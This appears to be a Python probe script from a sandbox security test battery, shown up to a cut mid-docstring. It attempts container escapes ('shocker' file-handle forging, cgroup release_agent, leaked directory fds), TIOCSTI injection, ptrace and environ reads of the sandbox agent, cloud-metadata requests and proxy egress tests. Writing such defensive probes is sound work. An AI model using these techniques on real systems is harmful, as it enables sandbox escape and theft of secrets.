"""Probes the security battery runs inside a sandbox: `python3 probes.py NAME 'JSON-ARGS'`.

Stdlib only (it runs on the sandbox's python3). Each probe tries one kind of attack and prints
one JSON line with what it saw: errno names, bytes it managed to read, counts. It never judges:
the host decides BLOCKED or BROKEN from its own canaries, because output from inside a possibly
broken sandbox proves nothing by itself.

Every probe is harmless even where it succeeds, since the positive controls run it with the
isolation switched off: syscalls get bad arguments (EFAULT/EBADF/EINVAL = reachable), files are
opened for writing but never written, signals go only to the battery's own canary process, and
every exhaustion probe stops at a bound.
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import platform
import signal
import socket
import stat
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
BAD = 1  # an unmapped, misaligned pointer: the kernel answers EFAULT if it gets that far


def ename(e: int) -> str:
    return errno.errorcode.get(e, str(e))


def oserr(e: BaseException) -> str:
    return ename(e.errno) if isinstance(e, OSError) and e.errno else type(e).__name__


# ------------------------------------------------------------------------- syscalls

# name: (x86_64, aarch64). Written out here rather than taken from the seccomp module: a probe
# must not inherit a mistake of the code it tests (and it runs alone, inside the sandbox).
NR = {
    "mount": (165, 40),
    "umount2": (166, 39),
    "pivot_root": (155, 41),
    "chroot": (161, 51),
    "open_tree": (428, 428),
    "move_mount": (429, 429),
    "fsopen": (430, 430),
    "fsconfig": (431, 431),
    "fsmount": (432, 432),
    "fspick": (433, 433),
    "mount_setattr": (442, 442),
    "unshare": (272, 97),
    "setns": (308, 268),
    "ptrace": (101, 117),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "kcmp": (312, 272),
    "pidfd_getfd": (438, 438),
    "bpf": (321, 280),
    "perf_event_open": (298, 241),
    "userfaultfd": (323, 282),
    "io_uring_setup": (425, 425),
    "io_uring_enter": (426, 426),
    "io_uring_register": (427, 427),
    "keyctl": (250, 219),
    "add_key": (248, 217),
    "request_key": (249, 218),
    "open_by_handle_at": (304, 265),
    "name_to_handle_at": (303, 264),
    "init_module": (175, 105),
    "finit_module": (313, 273),
    "delete_module": (176, 106),
    "kexec_load": (246, 104),
    "kexec_file_load": (320, 294),
    "reboot": (169, 142),
    "swapon": (167, 224),
    "swapoff": (168, 225),
    "acct": (163, 89),
    "quotactl": (179, 60),
    "quotactl_fd": (443, 443),
    "sethostname": (170, 161),
    "setdomainname": (171, 162),
    "settimeofday": (164, 170),
    "clock_settime": (227, 112),
    "clock_adjtime": (305, 266),
    "adjtimex": (159, 171),
    "syslog": (103, 116),
    "iopl": (172, None),
    "ioperm": (173, None),
    "uselib": (134, None),
    "nfsservctl": (180, 42),
    "fanotify_init": (300, 262),
    "personality": (135, 92),
    "move_pages": (279, 239),
    "migrate_pages": (256, 238),
    "clone3": (435, 435),
    "vhangup": (153, 58),
    "lookup_dcookie": (212, 18),
    "ioctl": (16, 29),
    "clone": (56, 220),
}

# Bad arguments per syscall: each call fails early on a pointer or fd check when the kernel
# lets it through, so a reachable syscall answers EFAULT/EBADF/EINVAL and changes nothing.
BAD_ARGS: dict[str, tuple[int, ...]] = {
    "mount": (BAD, BAD, BAD, 0, 0),
    "umount2": (BAD, 0),
    "pivot_root": (BAD, BAD),
    "chroot": (BAD,),
    "open_tree": (-1, BAD, 0),
    "move_mount": (-1, BAD, -1, BAD, 0),
    "fsopen": (BAD, 0),
    "fsconfig": (-1, 0, 0, 0, 0),  # fd -1: EINVAL before any filesystem context is looked up
    "fsmount": (-1, 0, 0),
    "fspick": (-1, BAD, 0),
    "mount_setattr": (-1, BAD, 0, BAD, 0),
    "setns": (-1, 0),
    "ptrace": (0x4206, 0, 0, 0),  # PTRACE_SEIZE pid 0 -> ESRCH when reachable
    "process_vm_readv": (0, BAD, 1, BAD, 1, 0),
    "process_vm_writev": (0, BAD, 1, BAD, 1, 0),
    "kcmp": (0, 0, 99, 0, 0),
    "pidfd_getfd": (-1, -1, 0),
    "bpf": (0, BAD, 16),
    "perf_event_open": (BAD, 0, -1, -1, 0),
    "userfaultfd": (0xFFFFFFFF,),  # unknown flags: EINVAL
    "io_uring_setup": (1, BAD),
    "io_uring_enter": (-1, 0, 0, 0, 0, 0),
    "io_uring_register": (-1, 0, 0, 0),
    "keyctl": (0x7FFF, 0, 0, 0, 0),  # unknown command: EOPNOTSUPP
    "add_key": (BAD, BAD, 0, 0, 0),
    "request_key": (BAD, BAD, 0, 0),
    "open_by_handle_at": (-1, BAD, 0),
    "name_to_handle_at": (-1, BAD, BAD, BAD, 0),
    "init_module": (BAD, 0, BAD),
    "finit_module": (-1, BAD, 0),
    "delete_module": (BAD, 0),
    "kexec_load": (0, 0, 0, 0xFFFFFFFF),  # unknown flags: EINVAL
    "kexec_file_load": (-1, -1, 0, 0, 0xFFFFFFFF),
    "reboot": (0, 0, 0, 0),  # wrong magic: EINVAL
    "swapon": (BAD, 0),
    "swapoff": (BAD,),
    "acct": (BAD,),
    "quotactl": (0, BAD, 0, 0),
    "quotactl_fd": (-1, 0, 0, 0),  # fd -1: EBADF before any quota command runs
    "sethostname": (BAD, 8),
    "setdomainname": (BAD, 8),  # EFAULT copying the name in, before the name changes
    "settimeofday": (BAD, 0),
    "clock_settime": (0, BAD),
    "clock_adjtime": (0, BAD),  # EFAULT reading the timex, before the clock is touched
    "adjtimex": (BAD,),
    "syslog": (10, 0, 0),  # SYSLOG_ACTION_SIZE_BUFFER: read-only
    "iopl": (9,),  # level > 3: EINVAL
    "ioperm": (0, 0, 0),
    "uselib": (BAD,),  # EFAULT on the path; ENOSYS on kernels built without it
    "nfsservctl": (0, BAD, BAD),  # ENOSYS on every kernel since 3.1; denied all the same
    "fanotify_init": (0xFFFFFFFF, 0),
    "personality": (0x0040000,),  # ADDR_NO_RANDOMIZE, in the throwaway child only
    "move_pages": (0, 1, BAD, BAD, BAD, 0xFFFFFFFF),
    # No arguments: it hangs up the caller's controlling terminal, and NEW_SESSION calls it from
    # a fresh session, which has none, so even where it is allowed it hangs up nothing.
    "vhangup": (),
    "lookup_dcookie": (0, BAD, 0),
    "clone3": (BAD, 88),
    "migrate_pages": (0, 1, BAD, BAD),
}


# Syscalls that act on the caller's session, made from a new one (setsid in the throwaway child).
NEW_SESSION = {"vhangup"}


def try_syscall(name: str, args: tuple[int, ...]) -> str:
    col = 0 if platform.machine() == "x86_64" else 1
    nr = NR[name][col]
    if nr is None:
        return "ABSENT"

    def call() -> int:
        if name in NEW_SESSION:
            os.setsid()
        return libc.syscall(nr, *[ctypes.c_long(a) for a in args])

    return in_child(call)


def probe_syscalls(names: list[str]) -> dict:
    return {"results": {name: try_syscall(name, BAD_ARGS[name]) for name in names}}


def probe_ns_create(names: list[str]) -> dict:
    """New namespaces through unshare(2) and clone(2) flags; the child exits at once."""
    col = 0 if platform.machine() == "x86_64" else 1
    out = {}
    if "unshare" in names:
        for label, flag in (("user", 0x10000000), ("mount", 0x00020000), ("net", 0x40000000)):
            out[f"unshare_{label}"] = in_child(lambda f=flag: libc.syscall(NR["unshare"][col], f))
        out["unshare_cli"] = _run(["unshare", "-Ur", "true"])
    if "clone" in names:
        # clone(CLONE_NEWUSER|SIGCHLD) through fork-like raw clone: the child _exits at once.
        flags = 0x10000000 | signal.SIGCHLD
        out["clone_newuser"] = in_child(lambda: _raw_clone(col, flags), reap=True)
    return {"results": out}


def _raw_clone(col: int, flags: int) -> int:
    ret = libc.syscall(NR["clone"][col], ctypes.c_long(flags), 0, 0, 0, 0)
    if ret == 0:
        os._exit(0)
    return ret


def in_child(fn, reap: bool = False) -> str:
    """Run one raw syscall in a child so a SIGSYS kill cannot take the probe down with it."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        ret = fn()
        err = ctypes.get_errno()
        if reap and ret > 0:
            os.waitpid(ret, 0)
        os.write(w, (f"OK:{ret}" if ret >= 0 else ename(err)).encode())
        os._exit(0)
    os.close(w)
    out = os.read(r, 100).decode()
    os.close(r)
    _, status = os.waitpid(pid, 0)
    if os.WIFSIGNALED(status):
        return f"SIG{signal.Signals(os.WTERMSIG(status)).name[3:]}"
    return out or "NO_ANSWER"


def _run(argv: list[str]) -> str:
    import subprocess

    try:
        p = subprocess.run(argv, capture_output=True, timeout=10)
    except (OSError, subprocess.TimeoutExpired) as e:
        return oserr(e)
    return "OK" if p.returncode == 0 else f"exit {p.returncode}: {p.stderr[-200:].decode()}"


# ------------------------------------------------------------------------- files


def read_some(path: str, limit: int = 65536) -> str:
    fd = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(fd, limit).decode("utf-8", "replace")
    finally:
        os.close(fd)


def probe_read(paths: list[str]) -> dict:
    out = {}
    for p in paths:
        try:
            out[p] = "DATA:" + read_some(p)
        except OSError as e:
            out[p] = oserr(e)
    return {"results": out}


def probe_proc_roots(rel: str) -> dict:
    """Reach the host through procfs links of every process the sandbox can see."""
    out = {}
    for pid in sorted(os.listdir("/proc")):
        if not pid.isdigit():
            continue
        for link in ("root", "cwd"):
            p = f"/proc/{pid}/{link}/{rel.lstrip('/')}"
            try:
                out[p] = "DATA:" + read_some(p)
            except OSError as e:
                out[p] = oserr(e)
    for p in (f"/proc/self/root/../../..{rel}", f"/proc/1/root/../../{rel.lstrip('/')}"):
        try:
            out[p] = "DATA:" + read_some(p)
        except OSError as e:
            out[p] = oserr(e)
    return {"results": out}


class FileHandle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("f", ctypes.c_ubyte * 8)]


def probe_shocker(rel: str) -> dict:
    """CVE-2014 'shocker': open_by_handle_at with a forged handle for the root inode of the
    filesystem behind a read-only bind, then walk to the host canary."""
    col = 0 if platform.machine() == "x86_64" else 1
    out = {}
    for mnt in ("/etc", "/usr", "/workspace", "/.agentbox"):
        try:
            mfd = os.open(mnt, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as e:
            out[mnt] = oserr(e)
            continue
        h = FileHandle(8, 1)  # FILEID_INO32_GEN: inode 2 (ext4 root), generation 0
        struct.pack_into("<II", h.f, 0, 2, 0)
        fd = libc.syscall(
            NR["open_by_handle_at"][col], mfd, ctypes.byref(h), os.O_RDONLY | os.O_DIRECTORY
        )
        err = ctypes.get_errno()
        os.close(mfd)
        if fd < 0:
            out[mnt] = ename(err)
            continue
        try:
            cfd = os.open(rel.lstrip("/"), os.O_RDONLY, dir_fd=fd)
            out[mnt] = "DATA:" + os.read(cfd, 65536).decode("utf-8", "replace")
            os.close(cfd)
        except OSError as e:
            out[mnt] = "ROOT_OPENED:" + oserr(e)
        finally:
            os.close(fd)
    return {"results": out}


def probe_write(targets: list[str], nonce: str) -> dict:
    """Create, rename, chmod, hard-link, symlink and truncate at each target directory."""
    out = {}
    for d in targets:
        base = os.path.join(d, f"abx-{nonce}")
        for op, fn in (
            ("create", lambda b=base: os.close(os.open(b, os.O_CREAT | os.O_WRONLY, 0o644))),
            ("mkdir", lambda b=base: os.mkdir(b + ".d")),
            ("symlink", lambda b=base: os.symlink("/", b + ".l")),
            ("link", lambda b=base: os.link("/etc/hostname", b + ".h")),
            ("rename", lambda b=base: os.rename(b, b + ".r")),
        ):
            try:
                fn()
                out[f"{d}:{op}"] = "OK"
            except OSError as e:
                out[f"{d}:{op}"] = oserr(e)
    return {"results": out}


def probe_write_existing(paths: list[str]) -> dict:
    """Modify existing files: chmod, append, utime. Positive controls run this as host root
    without isolation, so it only ever touches the battery's own files (canaries, the data
    dir's agent copy) and refuses anything else."""
    out = {}
    for p in paths:
        if "agentbox" not in p:
            out[p] = "REFUSED_BY_PROBE"
            continue
        for op, fn in (
            ("chmod", lambda p=p: os.chmod(p, 0o600)),
            ("append", lambda p=p: _append(p)),
            ("utime", lambda p=p: os.utime(p, (0, 0))),
        ):
            try:
                fn()
                out[f"{p}:{op}"] = "OK"
            except OSError as e:
                out[f"{p}:{op}"] = oserr(e)
    return {"results": out}


def _append(p: str) -> None:
    fd = os.open(p, os.O_WRONLY | os.O_APPEND)
    try:
        os.write(fd, b"PWNED\n")
    finally:
        os.close(fd)


def probe_open_wr(paths: list[str]) -> dict:
    """Zero-byte open-for-write (linPEAS style): opening changes nothing, writing would."""
    out = {}
    for p in paths:
        try:
            os.close(os.open(p, os.O_WRONLY | os.O_NONBLOCK))
            out[p] = "OPENED"
        except OSError as e:
            out[p] = oserr(e)
    return {"results": out}


def probe_cgroup_escape(nonce: str) -> dict:
    """CVE-2022-0492: mount a v1 hierarchy and reach release_agent; write parent cgroup.procs."""
    out = {}
    target = f"/tmp/cg-{nonce}"
    os.makedirs(target, exist_ok=True)
    for opts in ("rdma", "memory", "pids", "none,name=abx"):
        ret = libc.mount(b"cgroup", target.encode(), b"cgroup", 0, opts.encode())
        if ret != 0:
            out[f"mount {opts}"] = ename(ctypes.get_errno())
            continue
        out[f"mount {opts}"] = "MOUNTED"
        try:
            os.close(os.open(f"{target}/release_agent", os.O_WRONLY))
            out[f"{opts} release_agent"] = "OPENED"
        except OSError as e:
            out[f"{opts} release_agent"] = oserr(e)
        libc.umount2(target.encode(), 2)
    for root, _dirs, files in _walk("/sys/fs/cgroup", 3):
        for f in files:
            if f in ("release_agent", "cgroup.procs", "notify_on_release"):
                p = os.path.join(root, f)
                try:
                    os.close(os.open(p, os.O_WRONLY))
                    out[p] = "OPENED"
                except OSError as e:
                    out[p] = oserr(e)
    return {"results": out}


def _walk(top: str, depth: int):
    if depth < 0 or not os.path.isdir(top):
        return
    try:
        names = os.listdir(top)
    except OSError:
        return
    dirs = [n for n in names if os.path.isdir(os.path.join(top, n))]
    yield top, dirs, [n for n in names if n not in dirs]
    for d in dirs:
        yield from _walk(os.path.join(top, d), depth - 1)


def probe_masked(paths: list[str]) -> dict:
    """Kernel information that must be masked: report what could be read, not the data."""
    out = {}
    for p in paths:
        try:
            if os.path.isdir(p):
                out[p] = f"LISTED:{len(os.listdir(p))}"
                continue
            data = read_some(p, 4096)
            if p.endswith("kallsyms"):
                addrs = {line.split(" ", 1)[0] for line in data.splitlines()[:200]}
                out[p] = "ZEROED" if addrs <= {"0000000000000000"} else "ADDRESSES"
            else:
                out[p] = f"READ:{len(data)}"
        except OSError as e:
            out[p] = oserr(e)
    n = libc.klogctl(3, ctypes.create_string_buffer(256), 256)  # SYSLOG_ACTION_READ_ALL
    out["dmesg"] = f"READ:{n}" if n > 0 else ename(ctypes.get_errno()) if n < 0 else "EMPTY"
    return {"results": out}


def _inert(path: str) -> bool:
    """An empty regular file or directory: what a runtime covers a device of its own with."""
    try:
        st = os.lstat(path)
        if stat.S_ISREG(st.st_mode):
            return st.st_size == 0
        return stat.S_ISDIR(st.st_mode) and not os.listdir(path)
    except OSError:
        return False


def probe_devices(nonce: str) -> dict:
    out: dict = {"dev": sorted(n for n in os.listdir("/dev") if not _inert(f"/dev/{n}"))}
    for p in (
        "/dev/mem",
        "/dev/kmem",
        "/dev/port",
        "/dev/kmsg",
        "/dev/vda",
        "/dev/sda",
        "/dev/kvm",
        "/dev/loop-control",
        "/dev/vsock",
        "/dev/net/tun",
        "/dev/fuse",
    ):
        try:
            fd = os.open(p, os.O_RDONLY | os.O_NONBLOCK)
        except OSError as e:
            out[p] = oserr(e)
            continue
        mode = os.fstat(fd).st_mode
        os.close(fd)
        out[p] = "OPENED" if stat.S_ISCHR(mode) or stat.S_ISBLK(mode) else "NOT-A-DEVICE"
    node = f"/tmp/abx-node-{nonce}"
    try:
        os.mknod(node, 0o600 | 0o020000, os.makedev(1, 1))  # char 1:1 = /dev/mem
        out["mknod"] = "OK"
        try:
            os.close(os.open(node, os.O_RDONLY))
            out["mknod_open"] = "OPENED"
        except OSError as e:
            out["mknod_open"] = oserr(e)
        os.unlink(node)
    except OSError as e:
        out["mknod"] = oserr(e)
    return out


def probe_fds(rel: str) -> dict:
    """Inherited descriptors (CVE-2024-21626): only 0-2; a directory fd would reach the host."""
    out = {}
    names = os.listdir("/proc/self/fd")
    for name in names:
        fd = int(name)
        try:
            os.fstat(fd)
        except OSError:
            continue  # the fd listdir itself used, closed by now
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError as e:
            target = oserr(e)
        entry = {"target": target}
        try:
            entry["canary"] = "DATA:" + _read_at(fd, rel.lstrip("/"))
        except OSError as e:
            entry["canary"] = oserr(e)
        out[str(fd)] = entry
    return {"fds": out}


def _read_at(dfd: int, rel: str) -> str:
    fd = os.open(rel, os.O_RDONLY, dir_fd=dfd)
    try:
        return os.read(fd, 65536).decode("utf-8", "replace")
    finally:
        os.close(fd)


def probe_status(threads: int) -> dict:
    """/proc/self/status of every thread, after starting a few more threads."""
    import threading

    stop = threading.Event()
    ts = [threading.Thread(target=stop.wait) for _ in range(threads)]
    for t in ts:
        t.start()
    keys = ("Uid", "Gid", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs")
    out = {}
    # A kernel whose status files lack the NoNewPrivs line (gVisor's) still answers prctl;
    # threads share it with the one that made them.
    nnp = ctypes.CDLL(None, use_errno=True).prctl(39, 0, 0, 0, 0)  # PR_GET_NO_NEW_PRIVS
    try:
        for tid in os.listdir("/proc/self/task"):
            fields = {}
            with open(f"/proc/self/task/{tid}/status") as f:
                for line in f:
                    k, _, v = line.partition(":")
                    if k in (*keys, "Seccomp"):
                        fields[k] = v.strip()
            if "NoNewPrivs" not in fields:
                fields["NoNewPrivs"] = str(nnp)
                fields["NoNewPrivs_from"] = "prctl"
            out[tid] = fields
    finally:
        stop.set()
        for t in ts:
            t.join()
    setuid = []
    for d in ("/usr/bin", "/usr/sbin"):
        for n in os.listdir(d):
            try:
                if os.stat(os.path.join(d, n)).st_mode & 0o4000:
                    setuid.append(os.path.join(d, n))
            except OSError:
                pass
    return {"threads": out, "setuid_binaries": setuid[:20]}


def probe_pids() -> dict:
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode("utf-8", "replace")
            except OSError:
                continue
            seen.append(f"{pid}:{cmd[:200]}")
    return {"count": len(seen), "processes": seen}


def probe_ptrace(pid: int) -> dict:
    col = 0 if platform.machine() == "x86_64" else 1
    out = {}
    ret = libc.syscall(NR["ptrace"][col], 16, pid, 0, 0)  # PTRACE_ATTACH
    out["attach"] = "OK" if ret == 0 else ename(ctypes.get_errno())
    if ret == 0:
        time.sleep(0.05)  # the tracee stops; detaching lets it run on untouched
        libc.syscall(NR["ptrace"][col], 17, pid, 0, 0)  # PTRACE_DETACH
    iov_buf = ctypes.create_string_buffer(8)
    local = (ctypes.c_void_p * 2)(ctypes.cast(iov_buf, ctypes.c_void_p), 8)
    remote = (ctypes.c_void_p * 2)(0x400000, 8)
    ret = libc.syscall(NR["process_vm_readv"][col], pid, local, 1, remote, 1, 0)
    out["process_vm_readv"] = "OK" if ret >= 0 else ename(ctypes.get_errno())
    try:
        out["environ"] = "DATA:" + read_some(f"/proc/{pid}/environ")
    except OSError as e:
        out["environ"] = oserr(e)
    return out


def probe_agent_access() -> dict:
    """The sandbox's agent (whose memory holds its control channel) and its pid 1, as the
    caller reaches them: attach, read their memory (by process_vm_readv and /proc/PID/mem) and
    environment. The agent is found by its command line (`/.agentbox/main.py`, started by exec
    or forked)."""
    me = os.getpid()
    agents = []
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != me:
            try:
                with open(f"/proc/{name}/cmdline", "rb") as f:
                    if b"/.agentbox/main.py" in f.read():
                        agents.append(int(name))
            except OSError:
                continue
    out: dict = {"agents": agents}
    for label, pid in [*((f"agent {p}", p) for p in agents), ("pid 1", 1)]:
        for key, value in probe_ptrace(pid).items():
            out[f"{label} {key}"] = value
        try:
            fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
            os.close(fd)
            out[f"{label} mem"] = "OK"
        except OSError as e:
            out[f"{label} mem"] = oserr(e)
    return out


def probe_kill(pid: int) -> dict:
    try:
        os.kill(pid, signal.SIGUSR1)
        return {"kill": "OK"}
    except OSError as e:
        return {"kill": oserr(e)}


def probe_tty() -> dict:
    import fcntl
    import termios

    out = {}
    try:
        m = os.open("/dev/ptmx", os.O_RDWR | os.O_NOCTTY)
        libc.unlockpt(m)
        libc.ptsname.restype = ctypes.c_char_p
        s = os.open(libc.ptsname(m).decode(), os.O_RDWR | os.O_NOCTTY)
    except OSError as e:
        return {"pty": oserr(e)}
    col = 0 if platform.machine() == "x86_64" else 1
    c = ctypes.c_char(b"x")
    for label, req in (("TIOCSTI", termios.TIOCSTI), ("TIOCSTI_64bit", 0x100000000 | 0x5412)):
        ret = libc.syscall(NR["ioctl"][col], s, ctypes.c_ulong(req), ctypes.byref(c))
        out[label] = "OK" if ret == 0 else ename(ctypes.get_errno())
    try:
        fcntl.ioctl(s, 0x541C, b"\x0b")  # TIOCLINUX
        out["TIOCLINUX"] = "OK"
    except OSError as e:
        out["TIOCLINUX"] = oserr(e)
    os.close(s)
    os.close(m)
    return out


def probe_identity(nonce: str, names: list[str]) -> dict:
    """sethostname with a real name, as an attacker would; every other syscall in `names` with
    bad arguments."""
    col = 0 if platform.machine() == "x86_64" else 1
    out = {}
    for name in names:
        if name == "sethostname":
            host = f"abx-{nonce[:8]}".encode()
            ret = libc.syscall(NR["sethostname"][col], host, len(host))
            out[name] = "OK" if ret == 0 else ename(ctypes.get_errno())
        else:
            out[name] = try_syscall(name, BAD_ARGS[name])
    out["uname"] = " ".join(os.uname())
    return out


# ------------------------------------------------------------------------- network


def probe_interfaces() -> dict:
    import subprocess

    try:
        text = subprocess.run(["ip", "-o", "addr"], capture_output=True, text=True).stdout
    except OSError:
        text = ""
    addrs = [w[3].split("/")[0] for w in (ln.split() for ln in text.splitlines()) if len(w) > 3]
    return {"interfaces": [n for _, n in socket.if_nameindex()], "addresses": addrs}


def probe_connect(targets: list, payload: str) -> dict:
    """TCP connect and UDP send to each (proto, host, port); a hit is judged by the host."""
    out = {}
    for proto, host, port in targets:
        fam = socket.AF_INET6 if ":" in host else socket.AF_INET
        kind = socket.SOCK_STREAM if proto == "tcp" else socket.SOCK_DGRAM
        key = f"{proto}:{host}:{port}"
        try:
            with socket.socket(fam, kind) as s:
                s.settimeout(1.5)
                if proto == "tcp":
                    s.connect((host, port))
                    s.sendall(payload.encode())
                    out[key] = "CONNECTED"
                else:
                    s.sendto(payload.encode(), (host, port))
                    out[key] = "SENT"
        except OSError as e:
            out[key] = oserr(e)
    return {"results": out}


def probe_http(urls: list[str]) -> dict:
    """Plain HTTP GETs with a raw socket (no proxy variables involved)."""
    out = {}
    for url in urls:
        hostport = url.split("//", 1)[1].split("/", 1)[0]
        host, _, port = hostport.rpartition(":") if hostport.count(":") == 1 else (hostport, 0, 80)
        if hostport.startswith("["):
            host, port = hostport[1:].split("]")[0], 80
        try:
            with socket.create_connection((host, int(port or 80)), timeout=2) as s:
                s.sendall(f"GET /latest/meta-data/ HTTP/1.0\r\nHost: {hostport}\r\n\r\n".encode())
                out[url] = "ANSWER:" + s.recv(200).decode("utf-8", "replace")
        except OSError as e:
            out[url] = oserr(e)
    return {"results": out}


def _dns_query(name: str, qtype: int = 1) -> bytes:
    q = b"".join(bytes([len(x)]) + x.encode() for x in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + q + struct.pack(">HH", qtype, 1)


def probe_dns(names: list[str], resolvers: list[str]) -> dict:
    out = {}
    for n in names:
        try:
            socket.getaddrinfo(n, 80)
            out[f"getaddrinfo {n}"] = "RESOLVED"
        except OSError as e:
            out[f"getaddrinfo {n}"] = oserr(e)
    with open("/etc/resolv.conf") as f:
        conf = [line.split()[1] for line in f if line.startswith("nameserver")]
    for r in dict.fromkeys(conf + resolvers):
        fam = socket.AF_INET6 if ":" in r else socket.AF_INET
        for qtype, label in ((1, "A"), (16, "TXT")):
            try:
                with socket.socket(fam, socket.SOCK_DGRAM) as s:
                    s.settimeout(1)
                    s.sendto(_dns_query(names[0], qtype), (r, 53))
                    s.recv(512)
                    out[f"udp {r} {label}"] = "ANSWERED"
            except OSError as e:
                out[f"udp {r} {label}"] = oserr(e)
        try:
            with socket.create_connection((r, 53), timeout=1) as s:
                q = _dns_query(names[0])
                s.sendall(struct.pack(">H", len(q)) + q)
                out[f"tcp {r}"] = "CONNECTED"
        except OSError as e:
            out[f"tcp {r}"] = oserr(e)
    return {"results": out}


def probe_abstract(sock: str) -> dict:
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect("\0" + sock)
            s.sendall(b"hello from a sandbox")
            return {"connect": "CONNECTED"}
    except OSError as e:
        return {"connect": oserr(e)}


def probe_sockets() -> dict:
    out: dict = {}
    for label, args in (
        ("AF_PACKET raw", (socket.AF_PACKET, socket.SOCK_RAW, 0)),
        ("AF_INET raw icmp", (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
        ("AF_INET6 raw", (socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)),
        ("AF_VSOCK stream", (40, socket.SOCK_STREAM, 0)),
        ("AF_ALG seqpacket", (38, socket.SOCK_SEQPACKET, 0)),
    ):
        try:
            socket.socket(*args).close()
            out[label] = "OPENED"
        except OSError as e:
            out[label] = oserr(e)
    out["ip link add"] = _run(["ip", "link", "add", "abx0", "type", "dummy"])
    out["ip addr add"] = _run(["ip", "addr", "add", "10.99.0.1/32", "dev", "lo"])
    fams = {}
    for fam in range(1, 46):
        if fam in (1, 2, 10, 16):  # unix, inet, inet6, netlink: the ones a userland needs
            continue
        try:
            socket.socket(fam, socket.SOCK_DGRAM, 0).close()
            fams[fam] = "OPENED"
        except OSError as e:
            fams[fam] = oserr(e)
    out["families"] = fams
    return out


# ------------------------------------------------------------------------- egress proxy


def _proxy_address(var: str) -> tuple[str, int] | None:
    """Where the sandbox's proxy variable (HTTP_PROXY, ALL_PROXY) says its proxy listens."""
    url = os.environ.get(var) or os.environ.get(var.lower()) or ""
    if "//" not in url:
        return None
    hostport = url.split("//", 1)[1].split("/", 1)[0]
    host, _, port = hostport.rpartition(":")
    return (host.strip("[]"), int(port)) if port.isdigit() else None


def _client_hello(sni: str | None) -> bytes:
    """The first flight of a real TLS client (this python's ssl) asking for `sni`."""
    import ssl

    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ctx.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return outgoing.read()


def _read_until_close(s: socket.socket, limit: int = 16384) -> bytes:
    data = b""
    try:
        while len(data) < limit:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    return data


def _read_head(s: socket.socket) -> bytes:
    data = b""
    while b"\r\n\r\n" not in data and len(data) < 16384:
        chunk = s.recv(4096)
        if not chunk:
            break
        data += chunk
    return data


def _http_answer(data: bytes) -> str:
    """'HTTP 403' / 'HTTP 200 <start of body>' from a response, or what came instead."""
    line = data.split(b"\r\n", 1)[0].decode("latin-1")
    words = line.split()
    if len(words) < 2 or not words[0].startswith("HTTP/"):
        return "NOT_HTTP:" + line[:40] if data else "CLOSED"
    body = data.split(b"\r\n\r\n", 1)[1] if b"\r\n\r\n" in data else b""
    text = " ".join(body[:80].decode("utf-8", "replace").split())
    return f"HTTP {words[1]} {text}".rstrip()


def _through_tunnel(s: socket.socket, data: bytes) -> str:
    """Send `data` through a tunnel the proxy opened; what came back."""
    try:
        s.sendall(data)
        s.settimeout(2)
        got = s.recv(4096)
    except TimeoutError:
        return "SILENT"
    except OSError as e:
        return oserr(e)
    return "DATA:" + " ".join(got[:60].decode("latin-1").split()) if got else "CLOSED"


def _egress_attempt(a: dict, payload: str) -> str:
    """One request to the sandbox's egress proxy, as a client that uses it would send it."""
    via = a["via"]
    proxy = _proxy_address("ALL_PROXY" if via == "socks" else "HTTP_PROXY")
    if proxy is None:
        return "NO_PROXY_VARIABLE"
    if a.get("sni") is not None:
        after = _client_hello(a["sni"] or None)
    else:
        after = a.get("inner", payload).encode("latin-1")
    with socket.create_connection(proxy, timeout=5) as s:
        if via == "http":
            head = f"GET {a['url']} HTTP/1.1\r\n"
            hosts = a.get("host_headers") or [a["url"].split("//", 1)[1].split("/", 1)[0]]
            head += "".join(f"Host: {h}\r\n" for h in hosts) + "Connection: close\r\n\r\n"
            s.sendall(head.encode("latin-1"))
            return _http_answer(_read_until_close(s))
        if via == "connect":
            t = a["target"]
            s.sendall(f"CONNECT {t} HTTP/1.1\r\nHost: {t}\r\n\r\n".encode("latin-1"))
            answer = _http_answer(_read_head(s))
            if not answer.startswith("HTTP 200"):
                return answer
            return f"{answer}; then {_through_tunnel(s, after)}"
        host, port = a["host"], a["port"]
        if a["atyp"] == "ipv4":
            addr = b"\x01" + socket.inet_aton(host)
        elif a["atyp"] == "ipv6":
            addr = b"\x04" + socket.inet_pton(socket.AF_INET6, host)
        else:
            name = host.encode("latin-1")
            addr = b"\x03" + bytes([len(name)]) + name
        s.sendall(b"\x05\x01\x00")
        if s.recv(2) != b"\x05\x00":
            return "SOCKS_NO_METHOD"
        s.sendall(b"\x05\x01\x00" + addr + struct.pack("!H", port))
        reply = s.recv(10)
        code = reply[1] if len(reply) > 1 else -1
        if code != 0:
            return f"SOCKS {code}"
        return f"SOCKS 0; then {_through_tunnel(s, after)}"


def probe_egress(attempts: list[dict], payload: str) -> dict:
    """Ask the sandbox's egress proxy for each attempt; report what it answered.

    An attempt is {"key", "via": "connect"|"http"|"socks", ...}: connect has "target"
